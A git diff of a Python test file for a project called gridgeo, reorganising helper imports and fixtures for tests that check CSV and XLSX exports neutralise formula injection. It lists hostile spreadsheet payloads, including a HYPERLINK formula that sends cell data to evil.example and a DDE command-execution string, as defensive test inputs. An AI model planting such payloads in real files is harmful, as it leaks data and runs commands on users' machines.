@@ -18,8 +18,6 @@ import pytest
 from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
-from authn import headers_for
-from conftest import V1, X0, Y0
 from gridgeo.api.deps import get_store
 from gridgeo.api.main import create_app
 from gridgeo.cli import app
@@ -28,7 +26,9 @@ from gridgeo.events.catalogue import put_category
 from gridgeo.io import export_layer, import_files
 from gridgeo.io.exporting import FORMULA_STARTS, neutralise_formulas
 from gridgeo.validate import Report
-from test_assess_world import G1, build
+from helpers.authn import headers_for
+from helpers.hand_built import G1
+from helpers.tiny import V1, X0, Y0
 
 #: What OWASP lists, and what the review found: links, DDE, functions, tab/CR-led formulas.
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0",
@@ -136,10 +136,10 @@ def test_events_export_to_a_geopackage_has_no_secrets(hostile_store, tmp_path):
     assert frame["pos_lon"].dtype.kind == "f"
 
 
-def test_report_csv_xlsx_and_api_csv_are_safe(store, tmp_path):
+def test_report_csv_xlsx_and_api_csv_are_safe(hand_built, tmp_path):
     """`gridgeo report` CSV and XLSX, and GET /v1/stats/...?format=csv, with a hostile
     category name (a catalogue edit) and a hostile worker name (an import)."""
-    build(store)
+    store = hand_built
     put_category(store, "ZZ001", {"name": HOSTILE[0]}, actor="test")
     staff = tmp_path / "staff.csv"
     staff.write_text(f"code,name,phone,role,grid_code\nP9,{HOSTILE[3]},13800000009,part_time_worker,{G1}\n",
